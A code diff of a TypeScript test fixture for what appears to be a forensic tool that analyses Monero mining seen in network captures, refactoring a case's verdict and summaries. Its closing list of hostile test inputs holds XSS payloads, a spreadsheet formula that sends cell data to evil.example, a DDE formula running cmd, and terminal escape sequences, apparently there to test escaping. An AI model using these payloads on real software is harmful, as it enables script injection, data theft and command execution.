@@ -1,4 +1,4 @@
-import type { Case, Verdict } from "../../src/model/case.ts";
+import type { Case, CaseSum, Verdict } from "../../src/model/case.ts";
 import {
   around,
   contact,
@@ -125,6 +125,42 @@ export function gapsCase(): Case {
   });
 }
 
+const MINED: Verdict = {
+  severity: "high",
+  headline: "Two servers mined Monero for one wallet from 14 to 16 July 2017.",
+  says: [
+    "1,824 accepted shares stand for about 348 million hashes, worth about 0.18 XMR.",
+    "Both machines log in with the same wallet; the pool's records can tell what it paid.",
+  ],
+  wouldChange: [
+    "The pool's own records on the wallet: what was paid and when.",
+    "Captures of other days: the mining was running when this one begins.",
+    "A memory image: which process opened the connection, and who started it.",
+  ],
+};
+
+function minedSums(): readonly CaseSum[] {
+  return [
+    sum("host", "203.0.113.10"),
+    sum("host", "2001:db8:0:12::beef", {
+      sessions: ["s2"],
+      shares: counts(620),
+      work: work(119_600_000),
+      hashrateHps: around(512),
+    }),
+    sum("wallet", WALLET, {
+      sessions: ["s1", "s2"],
+      shares: counts(1824, 12, 3),
+      work: work(348_000_000),
+      hashrateHps: around(1514),
+    }),
+    sum("worker", `${WALLET}/web`),
+    ...DAYS.map((date) =>
+      sum("day", date, { sessions: ["s1", "s2"], shares: counts(608, 4, 1), work: work(116_000_000) }),
+    ),
+  ];
+}
+
 /** Two hosts, three days, one capture seen twice. */
 export function miningCase(): Case {
   const other = {
@@ -140,43 +176,13 @@ export function miningCase(): Case {
   return nothingCase({
     about: { caseNumber: "2017-0814", examiner: "A. Examiner" },
     options: { asOf: "2017-12-29", poolFee: 0.01, hashed: true },
-    verdict: {
-      severity: "high",
-      headline: "Two servers mined Monero for one wallet from 14 to 16 July 2017.",
-      says: [
-        "1,824 accepted shares stand for about 348 million hashes, worth about 0.18 XMR.",
-        "Both machines log in with the same wallet; the pool's records can tell what it paid.",
-      ],
-      wouldChange: [
-        "The pool's own records on the wallet: what was paid and when.",
-        "Captures of other days: the mining was running when this one begins.",
-        "A memory image: which process opened the connection, and who started it.",
-      ],
-    },
+    verdict: MINED,
     sessions: [
       session("s1", "203.0.113.10"),
       session("s2", "", other),
       session("s3", "192.0.2.1", { duplicateOf: "s1", evidence: ["e2"] }),
     ],
-    sums: [
-      sum("host", "203.0.113.10"),
-      sum("host", "2001:db8:0:12::beef", {
-        sessions: ["s2"],
-        shares: counts(620),
-        work: work(119_600_000),
-        hashrateHps: around(512),
-      }),
-      sum("wallet", WALLET, {
-        sessions: ["s1", "s2"],
-        shares: counts(1824, 12, 3),
-        work: work(348_000_000),
-        hashrateHps: around(1514),
-      }),
-      sum("worker", `${WALLET}/web`),
-      ...DAYS.map((date) =>
-        sum("day", date, { sessions: ["s1", "s2"], shares: counts(608, 4, 1), work: work(116_000_000) }),
-      ),
-    ],
+    sums: minedSums(),
     evidence: [
       evidence(),
       evidence({ id: "e2", name: "tap2/server-2017-07.pcap.gz", compression: "gzip", bytes: 311_990_121 }),
@@ -212,7 +218,7 @@ export const HOSTILE = [
   "</script><img src=x onerror=alert(1)>",
   '"><svg onload=alert(1)>',
   "' onmouseover='alert(1)",
-  "`${alert(1)}`",
+  "`$".concat("{alert(1)}`"),
   '=HYPERLINK("http://evil.example/?"&A1,"open")',
   "\t@SUM(1+1)*cmd|' /C calc'!A0",
   "\u001b[2J\u001b]0;owned\u0007\u009b31m",
